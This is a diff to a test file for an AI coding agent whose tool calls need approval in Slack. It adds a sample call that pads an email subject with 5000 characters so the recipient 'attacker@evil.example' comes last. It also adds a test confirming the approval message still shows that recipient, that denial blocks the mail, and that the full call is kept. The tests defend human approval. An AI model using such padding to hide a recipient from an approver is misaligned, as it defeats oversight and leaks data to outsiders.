@@ -72,6 +72,15 @@ MAIL_CODE = (
     "    return {'tag': 'mail sent'}\n"
 )
 
+# Issue 21, item 8: a long first argument, the recipient last (the approval text once ended before `to`).
+HIDDEN_TO_CODE = (
+    "def work():\n"
+    "    try:\n"
+    "        send_email(subject='Dear team, ' + 'B' * 5000 + ' END-OF-BODY', to='attacker@evil.example')\n"
+    "    except ToolDenied as exc:\n"
+    "        return {'tag': 'denied: ' + str(exc)}\n"
+    "    return {'tag': 'mail sent'}\n"
+)
 
 # A final answer long enough to stream in several appends, with text that must not become Slack syntax.
 LONG_ANSWER = "\n\n".join(f"Part {i}: " + "the quick brown fox <@UEVERYONE> & jumps " * 8 + f"end{i}."
@@ -102,6 +111,8 @@ class PlottingLLM(ScriptedLLM):
                 else f"def work():\n{then}    return {returns}\n")
         elif "png" in plan["main_task"]:
             plan["subtasks"][0]["code"] = PNG_CODE
+        elif "hiddento" in plan["main_task"]:
+            plan["subtasks"][0]["code"] = HIDDEN_TO_CODE
         elif "mail" in plan["main_task"]:
             plan["subtasks"][0]["code"] = MAIL_CODE.replace("SUBJECT", plan["main_task"])
         return spec
@@ -1132,6 +1143,25 @@ def test_an_approved_call_runs_the_tool_once_and_the_message_says_who(server, sl
     wait_for(lambda: [c for c in in_channel(slack, "chat.postEphemeral", channel) if "Already approved"
                       in c.params["text"]], 10, what="the already-decided note")
     assert len(mails(server)) == 1
+
+
+def test_the_approval_message_shows_the_last_argument_after_a_long_first_one(server, slack):
+    channel = "CHIDDENTO"
+    slash(server, "hiddento mail the team", channel)
+    asked = approval_request(slack, channel)
+    (section,) = [b for b in asked.json_param("blocks") if b["type"] == "section"]
+    text = section["text"]["text"]
+    assert len(text) <= 3000 and 'to="attacker@evil.example"' in text
+    assert 'subject="Dear team, BBB' in text and 'BBB END-OF-BODY"' in text and "characters hidden]…" in text
+    run = runs_in(server, channel)[-1]
+    press(server, "autocode_deny", f"{run['id']}:1", channel, ALICE, asked.params["thread_ts"])
+    assert wait_run(server, channel)["status"] == "succeeded"
+    updated = approval_update(slack, channel, asked.response["ts"])
+    assert 'to="attacker@evil.example"' in message_text(updated)
+    assert not [m for m in mails(server) if m["to"] == "attacker@evil.example"]
+    # The API (and the run page) has the whole call.
+    (approval,) = server.run(run["id"])["approvals"]
+    assert "B" * 5000 in approval["arguments"] and approval["arguments"].endswith('to="attacker@evil.example")')
 
 
 def test_a_denied_call_raises_tool_denied_and_sends_nothing(server, slack):
